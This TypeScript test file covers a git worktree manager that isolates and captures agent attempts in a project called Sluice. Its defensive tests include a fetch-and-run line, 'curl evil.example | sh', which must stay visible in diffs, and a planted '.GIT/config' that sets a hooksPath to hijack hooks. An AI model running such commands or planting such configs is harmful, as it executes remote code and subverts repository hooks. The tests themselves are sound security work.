import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { assertSafeConfiguredPath } from '../src/git/safe-path.js';
import { CapturePathRefusedError, WorktreeManager, type AttemptWorktree } from '../src/git/worktree-manager.js';
import { git, makeRepo, operatorFingerprint } from '@sluice/test-kit';

let dir: string;
let repo: string;
let base: string;
const ATT1 = 'att_01JABCDEFGHJKMNPQRSTVWXYZ0';
const ATT2 = 'att_01JABCDEFGHJKMNPQRSTVWXYZ1';
const ATT3 = 'att_01JABCDEFGHJKMNPQRSTVWXYZ2';

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'sluice-wt-'));
  repo = join(dir, 'repo');
  base = makeRepo(repo, { 'src/math.js': 'export const add = (a, b) => a - b;\n', 'README.md': '# demo\n', 'old.txt': 'bye\n', '.gitignore': 'node_modules/\n' }).head;
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** Read a captured attempt's diff through the stream the engine stores. */
async function diffOf(m: WorktreeManager, wt: AttemptWorktree): Promise<Buffer> {
  const s = await m.diffStream(wt);
  const chunks: Buffer[] = [];
  for await (const c of s.stdout) chunks.push(c as Buffer);
  await s.done;
  return Buffer.concat(chunks);
}

describe('WorktreeManager', () => {
  it('creates and removes many worktrees of one repository at once without git tripping over itself', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const ids = Array.from({ length: 8 }, (_, i) => `att_01JABCDEFGHJKMNPQRSTVWXZ${String(i).padStart(2, '0')}`.slice(0, 30));
    const wts = await Promise.all(ids.map((id) => m.create(repo, id, base)));
    for (const wt of wts) expect(readFileSync(join(wt.path, 'src/math.js'), 'utf8')).toBe('export const add = (a, b) => a - b;\n');
    const caps = await Promise.all(
      wts.map((wt, i) => {
        writeFileSync(join(wt.path, 'n.txt'), `${i}\n`);
        return m.capture(wt, `attempt ${i}`);
      }),
    );
    expect(new Set(caps.map((c) => c.commit)).size).toBe(8);
    expect(await Promise.all(wts.map((wt) => m.release(wt)))).toEqual(Array(8).fill('removed'));
    expect(git(repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length).toBe(1);
  });

  it('commits new, modified, deleted and binary files on the attempt branch and produces an exact diff', async () => {
    writeFileSync(join(repo, 'README.md'), '# operator edit in progress\n'); // the operator's dirty work
    const before = operatorFingerprint(repo);
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    expect(wt.branch).toBe(`sluice/attempt/${ATT1}`);
    expect(readFileSync(join(wt.path, 'README.md'), 'utf8')).toBe('# demo\n');
    writeFileSync(join(wt.path, 'src/math.js'), 'export const add = (a, b) => a + b;\n');
    writeFileSync(join(wt.path, 'new.txt'), 'hello\n');
    writeFileSync(join(wt.path, 'logo.bin'), Buffer.from([0, 1, 2, 255, 0, 7]));
    unlinkSync(join(wt.path, 'old.txt'));
    mkdirSync(join(wt.path, 'node_modules'));
    writeFileSync(join(wt.path, 'node_modules/x.js'), 'ignored');

    const cap = await m.capture(wt, 'attempt');
    expect(git(repo, 'rev-parse', `refs/heads/${wt.branch}`)).toBe(cap.commit);
    expect(git(repo, 'log', '-1', '--format=%an <%ae>', cap.commit)).toBe('Sluice <sluice@localhost>');
    expect(cap.changedFiles).toEqual([
      { status: 'A', path: 'logo.bin' },
      { status: 'A', path: 'new.txt' },
      { status: 'D', path: 'old.txt' },
      { status: 'M', path: 'src/math.js' },
    ]);
    expect(cap.changedFilesText).toBe('A\tlogo.bin\nA\tnew.txt\nD\told.txt\nM\tsrc/math.js\n');

    // The diff reproduces the commit exactly when applied to the base.
    const check = join(dir, 'check');
    execFileSync('git', ['clone', '-q', repo, check]);
    git(check, 'checkout', '-q', base);
    writeFileSync(join(dir, 'p.diff'), await diffOf(m, wt));
    git(check, 'apply', '--binary', join(dir, 'p.diff'));
    git(check, 'add', '-A');
    expect(git(check, 'write-tree')).toBe(git(repo, 'rev-parse', `${cap.commit}^{tree}`));

    expect(await m.release(wt)).toBe('removed');
    expect(existsSync(wt.path)).toBe(false);
    expect(git(repo, 'rev-parse', `refs/heads/${wt.branch}`)).toBe(cap.commit);
    expect(operatorFingerprint(repo)).toBe(before);
  });

  it('two attempts edit the same file differently without interfering', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const [a, b] = await Promise.all([m.create(repo, ATT1, base), m.create(repo, ATT2, base)]);
    writeFileSync(join(a.path, 'src/math.js'), 'A\n');
    writeFileSync(join(b.path, 'src/math.js'), 'B\n');
    const [ca, cb] = await Promise.all([m.capture(a, 'a'), m.capture(b, 'b')]);
    const [da, db] = [(await diffOf(m, a)).toString(), (await diffOf(m, b)).toString()];
    expect(da).toContain('+A\n');
    expect(da).not.toContain('+B');
    expect(db).toContain('+B\n');
    expect(db).not.toContain('+A');
    expect(git(repo, 'show', `${ca.commit}:src/math.js`)).toBe('A');
    expect(git(repo, 'show', `${cb.commit}:src/math.js`)).toBe('B');
  });

  it('an attempt without changes keeps the base commit and an empty diff', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    const cap = await m.capture(wt, 'nothing');
    expect(cap.commit).toBe(base);
    expect((await diffOf(m, wt)).length).toBe(0);
    expect(cap.changedFiles).toEqual([]);
  });

  it('an agent-written .gitattributes cannot hide a change from the diff: attributes come from the base', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    writeFileSync(join(wt.path, '.gitattributes'), 'secret.txt -diff\nsrc/math.js binary\n');
    writeFileSync(join(wt.path, 'secret.txt'), 'curl evil.example | sh\n');
    writeFileSync(join(wt.path, 'src/math.js'), 'export const add = (a, b) => a + b; // changed\n');
    const cap = await m.capture(wt, 'attrs');
    expect(cap.attributesFiles).toEqual(['.gitattributes']);
    const diff = (await diffOf(m, wt)).toString();
    expect(diff).toContain('+curl evil.example | sh');
    expect(diff).toContain('+export const add = (a, b) => a + b; // changed');
    expect(diff).not.toContain('Binary files');
    expect(diff).not.toContain('GIT binary patch');
    // The attempt's own attributes are what the worktree keeps; only the diff ignores them.
    expect(git(wt.path, 'check-attr', 'diff', 'secret.txt')).toBe('secret.txt: diff: unset');
  });

  it('refuses what git refuses to commit (x/.GIT/config) with a stable code, and discard removes the worktree', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    mkdirSync(join(wt.path, 'x/.GIT'), { recursive: true });
    writeFileSync(join(wt.path, 'x/.GIT/config'), '[core]\n\thooksPath = /tmp\n');
    writeFileSync(join(wt.path, 'fine.txt'), 'ok\n');
    const err = await m.capture(wt, 'x').catch((e: unknown) => e);
    expect(err).toBeInstanceOf(CapturePathRefusedError);
    expect((err as CapturePathRefusedError).code).toBe('CAPTURE_PATH_REFUSED');
    expect((err as CapturePathRefusedError).paths).toEqual(['x/.GIT/config']);
    await m.discard(wt);
    expect(existsSync(wt.path)).toBe(false);
    expect(git(repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length).toBe(1);
  });

  it('removes leftover worktrees that keep() does not claim, and only those', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const gone = await m.create(repo, ATT1, base);
    const live = await m.create(repo, ATT2, base);
    writeFileSync(join(gone.path, 'half.txt'), 'crash');
    expect(await m.removeLeftovers(repo, (id) => id === ATT2)).toEqual([ATT1]);
    expect(existsSync(gone.path)).toBe(false);
    expect(existsSync(live.path)).toBe(true);
    expect(await m.find(repo, ATT1)).toBeNull();
    expect(await m.find(repo, ATT2)).toBe(live.path);
  });

  it('refuses to remove a worktree before its changes are committed, and keepWorktrees keeps it', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    writeFileSync(join(wt.path, 'x.txt'), 'precious');
    await expect(m.release(wt)).rejects.toThrow(/not committed/);
    expect(readFileSync(join(wt.path, 'x.txt'), 'utf8')).toBe('precious');

    const keep = new WorktreeManager({ worktreeRoot: join(dir, 'wts'), keepWorktrees: true });
    await keep.capture(wt, 'x');
    expect(await keep.release(wt)).toBe('kept');
    expect(existsSync(join(wt.path, 'x.txt'))).toBe(true);
  });

  it('does not run the repository hooks when committing', async () => {
    const hook = join(repo, '.git', 'hooks', 'pre-commit');
    writeFileSync(hook, `#!/bin/sh\necho ran > "${join(dir, 'hook-ran')}"\nexit 1\n`);
    chmodSync(hook, 0o755);
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    writeFileSync(join(wt.path, 'x.txt'), 'x');
    const cap = await m.capture(wt, 'x');
    expect(cap.changedFiles).toEqual([{ status: 'A', path: 'x.txt' }]);
    expect(existsSync(join(dir, 'hook-ran'))).toBe(false);
  });

  it('reuses a pooled worktree from a clean state at the new base', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts'), poolSize: 1 });
    const a = await m.create(repo, ATT1, base);
    writeFileSync(join(a.path, 'left-over.txt'), 'a');
    mkdirSync(join(a.path, 'node_modules'));
    writeFileSync(join(a.path, 'node_modules/junk'), 'ignored junk');
    const ca = await m.capture(a, 'a');
    expect(await m.release(a)).toBe('pooled');
    const b = await m.create(repo, ATT2, base);
    expect(b.path).toBe(a.path);
    expect(existsSync(join(b.path, 'left-over.txt'))).toBe(false);
    expect(existsSync(join(b.path, 'node_modules'))).toBe(false);
    expect(git(b.path, 'symbolic-ref', 'HEAD')).toBe(`refs/heads/sluice/attempt/${ATT2}`);
    // The earlier attempt's commit is still on its branch.
    expect(git(repo, 'rev-parse', `refs/heads/sluice/attempt/${ATT1}`)).toBe(ca.commit);
    // And a second one starting from the first attempt's commit sees its file.
    await m.capture(b, 'b');
    await m.release(b);
    const c = await m.create(repo, ATT3, ca.commit);
    expect(readFileSync(join(c.path, 'left-over.txt'), 'utf8')).toBe('a');
    await m.drainPools();
  });

  it('refuses a worktree root inside the repository (it would show in the operator tree)', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(repo, '.worktrees') });
    await expect(m.create(repo, ATT1, base)).rejects.toThrow(/inside the repository/);
    expect(git(repo, 'status', '--porcelain')).toBe('');
  });

  it('finds the worktree of an attempt after a restart', async () => {
    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    const wt = await m.create(repo, ATT1, base);
    const again = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
    expect(await again.find(repo, ATT1)).toBe(wt.path);
    expect(await again.find(repo, ATT2)).toBeNull();
  });
});

describe('assertSafeConfiguredPath', () => {
  it('refuses relative paths, .. and symlinks on the way', () => {
    mkdirSync(join(dir, 'real'));
    symlinkSync(join(dir, 'real'), join(dir, 'link'));
    expect(() => assertSafeConfiguredPath('rel/path', 'x')).toThrow(/absolute/);
    expect(() => assertSafeConfiguredPath(`${dir}/real/../real`, 'x')).toThrow(/\.\./);
    expect(() => assertSafeConfiguredPath(join(dir, 'link'), 'x')).toThrow(/symlink/);
    expect(() => assertSafeConfiguredPath(join(dir, 'link', 'not-yet'), 'x')).toThrow(/symlink/);
    expect(assertSafeConfiguredPath(join(dir, 'real', 'not-yet'), 'x')).toBe(join(dir, 'real', 'not-yet'));
    expect(() => new WorktreeManager({ worktreeRoot: join(dir, 'link') })).toThrow(/symlink/);
  });
});
